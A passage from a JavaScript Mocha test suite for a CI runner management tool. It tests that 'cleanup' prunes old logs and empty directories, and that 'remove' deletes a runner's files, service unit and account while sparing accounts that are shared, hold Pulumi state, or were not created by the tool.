  // Mocha runs a suite's own tests before its nested suites: removal comes last.
  describe("cleanup and removal", () => {
    it("cleanup removes runner logs older than logDays and empty work directories, and releases no runner uses", () => {
      const diag = path.join(ci.dir, "_diag");
      fs.mkdirSync(diag, { recursive: true });
      fs.writeFileSync(path.join(diag, "Runner_old.log"), "old");
      execFileSync("touch", ["-d", "10 days ago", path.join(diag, "Runner_old.log")]);
      fs.writeFileSync(path.join(diag, "Runner_new.log"), "new");
      fs.mkdirSync(path.join(ci.dir, "_work", "empty", "deeper"), { recursive: true });
      const r = sh(["cleanup", "--log-days", "7"]);
      assert.equal(r.status, 0, r.stderr);
      assert.ok(!fs.existsSync(path.join(diag, "Runner_old.log")));
      assert.ok(fs.existsSync(path.join(diag, "Runner_new.log")));
      assert.ok(!fs.existsSync(path.join(ci.dir, "_work", "empty")));
      assert.ok(!fs.existsSync(path.join(cfg.root, "versions", "2.336.0")), "2.336.0 is no runner's release any more");
      assert.ok(fs.existsSync(path.join(cfg.root, "versions", "2.337.0")));
    });

    it("remove drains, stops, removes the local registration, the files, the unit and the account", async () => {
      const pid = pidOf(ci);
      const r = sh(["remove", "--name", ci.name, "--user", ci.user, "--drain-minutes", "0"]);
      assert.equal(r.status, 0, r.stderr);
      await until("the runner to stop", () => !alive(pid));
      assert.ok(!fs.existsSync(ci.dir));
      assert.ok(!fs.existsSync(path.join(sys, "etc/systemd/system", ci.unit)));
      assert.notEqual(spawnSync("id", ["-u", ci.user]).status, 0, "the account is gone");
      assert.ok(!fs.existsSync(path.join(cfg.root, "home", ci.user)));
      assert.match(sh(["remove", "--name", ci.name, "--user", ci.user, "--drain-minutes", "0"]).stdout, /removed from this host/, "removing twice is fine");
    });

    it("never removes an account another runner still runs as, or one whose home holds the stacks' state", () => {
      const stateFile = path.join(cfg.root, "home", dep.user, ".pulumi", "stacks", "testprod.json");
      fs.mkdirSync(path.dirname(stateFile), { recursive: true });
      fs.writeFileSync(stateFile, "{}");
      // A runner renamed under the same account: the old name's removal must leave the account to the new one.
      const renamed = sh(["remove", "--name", "forest-deploy-old", "--user", dep.user, "--drain-minutes", "0"]);
      assert.equal(renamed.status, 0, renamed.stderr);
      assert.match(renamed.stdout, new RegExp(`account ${dep.user}: runner ${dep.name} still runs as it: left in place`));
      const r = sh(["remove", "--name", dep.name, "--user", dep.user, "--drain-minutes", "0"]);
      assert.equal(r.status, 0, r.stderr);
      assert.ok(!fs.existsSync(dep.dir));
      assert.match(r.stdout, /its home holds Pulumi state .*: left in place/);
      assert.equal(fs.readFileSync(stateFile, "utf8"), "{}");
      assert.equal(spawnSync("id", ["-u", dep.user]).status, 0);
    });

    it("never removes an account it did not make", () => {
      const r = sh(["remove", "--name", "not-ours", "--user", "daemon", "--drain-minutes", "0"]);
      assert.equal(r.status, 0, r.stderr);
      assert.match(r.stdout, /account daemon was not made by wepppy-runner: left in place/);
      assert.equal(spawnSync("id", ["-u", "daemon"]).status, 0);
    });
  });

});
